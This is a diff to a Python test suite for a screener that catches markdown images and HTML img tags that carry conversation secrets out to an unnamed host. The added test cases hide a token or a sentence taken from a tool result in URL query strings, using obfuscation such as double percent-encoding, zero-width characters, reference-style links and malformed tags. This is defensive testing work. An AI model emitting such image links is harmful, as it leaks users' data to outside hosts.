@@ -206,6 +206,11 @@ def test_an_image_of_a_host_that_nobody_named_is_made_inert() -> None:
         "![x](https://pics.example/p#REVERSED )",
         "![x](https://pics.example/p?d=ROT13)",
         "![x](https:/\\pics.example/p?d=PERCENT)",
+        "![x](https://pics\\.example/p?d=DOUBLE)",
+        "![x](https://pics.example/p?d=SPACED)",
+        "![r]\n\n[r]: https://pics.example/p?d=the+launch+moves+to+march",
+        "<img alt=it's src=https://pics.example/p?d=TOKEN>",
+        "<img src=https://pics.example/p?d=TOKEN <b>",
     ],
 )
 def test_nothing_of_the_conversation_leaves_in_an_address(text: str) -> None:
@@ -221,15 +226,20 @@ def test_nothing_of_the_conversation_leaves_in_an_address(text: str) -> None:
         "HEX": raw.hex(),
         "REVERSED": token[::-1],
         "ROT13": codecs.encode(token, "rot13"),
+        "SPACED": "\u200b".join(token),
+        "DOUBLE": "".join(f"%25{byte:02x}" for byte in raw),
         "PERCENT": "".join(f"%{byte:02x}" for byte in raw),
     }.items():
         text = text.replace(name, value)
-    sights = SCREENER.look(f"So: {text} ok", Told(tool_result=f"key={token}\n"), "")
+    sights = SCREENER.look(f"So: {text} ok", Told(tool_result=f"key={token}\nthe launch moves to march"), "")
     worst = [item for item in sights if item.why.startswith("carries_")]
     assert worst, sights
     assert all(item.severity in ("high", "critical") for item in worst)
     assert token not in after(f"So: {text} ok", sights)
-    assert any(item.why.startswith("carries_") for item in feed(list(f"So: {text} ok"), Told(tool_result=token))[0])
+    assert any(
+        item.why.startswith("carries_")
+        for item in feed(list(f"So: {text} ok"), Told(tool_result=f"{token} the launch moves to march"))[0]
+    )
 
 
 def test_a_link_that_was_asked_for_is_let_through() -> None:
